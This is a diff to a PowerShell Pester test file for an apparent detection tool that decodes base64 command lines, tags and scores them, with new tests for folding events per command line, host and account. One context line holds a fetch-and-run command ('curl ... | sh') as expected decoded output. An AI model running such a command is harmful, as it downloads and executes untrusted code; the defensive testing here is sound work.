@@ -70,3 +70,33 @@ Describe 'Get-B64Command -Summarize on files' {
         $events[0].DecodedCommand | Should -Be 'curl http://10.0.0.1/a | sh'
     }
 }
+
+Describe 'Measure-B64Score keeps its events folded per command line, host and account' {
+    BeforeAll {
+        $script:FleetEvents = @(Get-B64Command -Path $Fleet -ErrorAction SilentlyContinue | Add-B64Category | Add-GtfoBinsTag | Find-B64Ioc)
+    }
+
+    It 'ranks, scores and draws exactly as with -KeepEvents, and keeps far fewer events' {
+        $kept = @($FleetEvents | Measure-B64Score -KeepEvents)
+        $folded = @($FleetEvents | Measure-B64Score)
+        Describe-Ranking $folded | Should -Be (Describe-Ranking $kept)
+        ($kept | ForEach-Object { $_.Events.Count } | Measure-Object -Sum).Sum | Should -Be $FleetEvents.Count
+        $foldedCount = ($folded | ForEach-Object { $_.Events.Count } | Measure-Object -Sum).Sum
+        $foldedCount | Should -BeLessThan ($FleetEvents.Count / 2)
+        foreach ($score in $folded) { ($score.Events | Measure-Object EventCount -Sum).Sum | Should -Be $score.CommandCount }
+        ($folded | Show-B64Timeline -NoColor -Width 140) | Should -Be ($kept | Show-B64Timeline -NoColor -Width 140)
+    }
+
+    It 'leaves the piped events as they were, and its folded events score the same again' {
+        $folded = @($FleetEvents | Measure-B64Score -Model Notebook -AlertWindow 01:00:00)
+        @($FleetEvents | Where-Object { $_.EventCount -ne 1 -or $_.ExecutionTimes.Count -ne 0 -or $null -ne $_.FirstSeen }).Count | Should -Be 0
+        $again = @($folded | Measure-B64Score -Model Notebook -AlertWindow 01:00:00)
+        Describe-Ranking $again | Should -Be (Describe-Ranking $folded)
+    }
+
+    It 'keeps each run with its own Source under -KeepEvents' {
+        $top = $FleetEvents | Measure-B64Score -KeepEvents | Sort-Object CommandCount -Descending | Select-Object -First 1
+        $top.Events.Count | Should -Be $top.CommandCount
+        @($top.Events.Source | Sort-Object -Unique).Count | Should -Be $top.CommandCount
+    }
+}
